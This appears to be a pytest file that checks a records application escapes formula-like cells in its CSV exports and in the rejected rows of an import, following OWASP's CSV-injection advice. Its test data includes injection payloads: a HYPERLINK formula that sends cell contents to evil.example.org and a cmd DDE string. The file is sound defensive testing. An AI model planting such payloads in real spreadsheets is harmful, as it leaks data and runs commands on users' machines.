"""CSV files are opened in spreadsheets: a text cell starting like a formula (=, +, -, @, tab, CR)
is written with a leading quote (OWASP's advice against CSV injection), in list exports, report
exports and the rejected rows of an import. Numbers, negative ones too, stay numbers."""

import csv
import io
from urllib.parse import urlencode

import pytest

from kernel import records
from kernel.db import db
from kernel.export import spreadsheet_safe
from kernel.registry import entities
from plugins.directory.models import Agency, Resource
from tests.kernel.test_csv_import import import_file

HOSTILE = {
    '=HYPERLINK("https://evil.example.org/?"&A1,"Click")': '\'=HYPERLINK("https://evil.example.org/?"&A1,"Click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.data[:300]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))


def add_clients(user, names):
    entity = entities().get("client")
    for name in names:
        records.create(entity, {"last_name": name, "first_name": "Ann"}, user)
    db.session.commit()


def test_the_list_export_neutralises_formulas(staff, staff_client):
    add_clients(staff, HOSTILE)
    rows = rows_of(staff_client.get("/clients/export.csv?cols=last_name,first_name&sort=id"))
    assert [row[0] for row in rows[1:]] == list(HOSTILE.values())
    assert all(row[1] == "Ann" for row in rows[1:])


def test_the_report_export_neutralises_formulas(staff, staff_client):
    add_clients(staff, HOSTILE)
    items = [("entity", "client"), ("columns", "last_name"), ("sort", "last_name")]
    rows = rows_of(staff_client.get("/reports/export.csv?" + urlencode(items)))
    assert sorted(row[0] for row in rows[1:]) == sorted(HOSTILE.values())


def test_negative_numbers_stay_numbers(app, staff, staff_client):
    agency = Agency(name="Agency")
    db.session.add(agency)
    db.session.flush()
    db.session.add(Resource(name="-Minus sign first", organization_id=agency.id, minimum_age=-5, maximum_age=12))
    db.session.commit()
    rows = rows_of(staff_client.get("/resources/export.csv?cols=name,minimum_age,maximum_age"))
    assert rows[1] == ["'-Minus sign first", "-5", "12"]


@pytest.mark.parametrize("cell", [-5, -3.5, "-3.50", "+1", "12", "Plain text", "", None, "a=b",
                                  "+1 (867) 979-5555", "+33 1 23 45 67 89", "-1,5"])
def test_numbers_and_ordinary_text_are_left_as_they_are(cell):
    assert spreadsheet_safe(cell) == cell


def test_the_rejected_rows_of_an_import_neutralise_formulas(app, staff_client):
    app.config["IMPORT_IN_BACKGROUND"] = False
    browser = staff_client
    done = import_file(browser, "Last name,First name,E-mail\n=1+2,\"=HYPERLINK(\"\"x\"\")\",not-an-email\n")
    rows = rows_of(browser.get(f"/imports/{done.id}/rejected.csv"))
    assert rows[1][:3] == ["'=1+2", "'=HYPERLINK(\"x\")", "not-an-email"]
